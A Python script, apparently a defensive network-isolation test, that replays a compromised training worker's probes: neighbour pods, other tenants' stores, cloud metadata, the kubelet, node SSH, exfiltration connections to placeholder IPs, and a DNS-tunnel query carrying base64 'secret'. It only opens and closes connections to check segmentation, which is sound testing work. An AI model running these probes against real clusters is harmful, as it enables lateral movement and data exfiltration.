"""What a compromised training worker tries, in the order of the incident this example retells.

One line per attempt. `open`: something answered. `refused`: the packet arrived and was turned away. `blocked`: silence,
or the network said no. Nothing is stolen or broken: a connection is opened and closed, a datagram sent.

The steps cover what version by version should become impossible. The last one succeeds today: names may be resolved, and
what a name can carry is not inspected yet.
"""

import socket

from nameserver import query
from pipeline import TIMEOUT, hosts, resolve, say

NODES = {"node-a": "172.30.0.11", "node-b": "172.30.0.12"}  # as in nodes.yaml

STEPS = [
    ("neighbour-scan", "llm-trainer-master-0.train.pod", 22, "TCP"),
    ("neighbour-scan", "llm-trainer-worker-0.train.pod", 22, "TCP"),
    ("neighbour-scan", "llm-trainer-worker-2.train.pod", 8888, "TCP"),
    ("other-tenant-features", "globex-feature-store.ingest.svc", 7000, "TCP"),
    ("other-tenant-checkpoints", "globex-checkpoint-store.train.svc", 9000, "TCP"),
    ("vector-database", "vector-db.serve.svc", 6333, "TCP"),
    ("inference-admin", "inference.serve.svc", 8001, "TCP"),
    ("inference-api", "inference.serve.svc", 8000, "TCP"),
    ("api-server", NODES["node-a"], 6443, "TCP"),
    ("cloud-metadata", "169.254.169.254", 80, "TCP"),
    ("node-ssh", NODES["node-b"], 22, "TCP"),
    ("node-kubelet", NODES["node-b"], 10250, "TCP"),
    ("exfiltration", "203.0.113.66", 443, "TCP"),
    ("exfiltration-by-the-allowed-host", "203.0.113.10", 443, "TCP"),
    ("public-resolver", "198.51.100.53", 53, "UDP"),
    ("dns-tunnel", "kube-dns.kube-system.svc", 53, "UDP"),
]


def tcp(address, port):
    with socket.create_connection((address, port), timeout=TIMEOUT):
        return "open"


def udp(address, port):
    """A datagram has arrived only if something comes back: an answer, or ICMP port unreachable as a refusal."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.settimeout(TIMEOUT)
        stream.connect((address, port))
        stream.send(query("c2VjcmV0.example.com"))
        stream.recv(512)
        return "open"


def attempt(step, target, port, protocol="TCP"):
    address = resolve(target)
    try:
        outcome = tcp(address, port) if protocol == "TCP" else udp(address, port)
    except ConnectionRefusedError:
        outcome = "refused"
    except OSError:
        outcome = "blocked"
    # A name that could not be resolved was never tried; saying "blocked" would be a lie.
    if address == target and not target[0].isdigit():
        outcome = "unresolved"
    say(f"ATTACK {step}: {target} {port}/{protocol}: {outcome}")
    return outcome


def run():
    say(f"ATTACK begins: {len(hosts())} names known")
    outcomes = [attempt(*step) for step in STEPS]
    counts = ", ".join(f"{outcomes.count(outcome)} {outcome}" for outcome in sorted(set(outcomes)))
    say(f"ATTACK ends after {len(outcomes)} steps: {counts}")


if __name__ == "__main__":
    run()
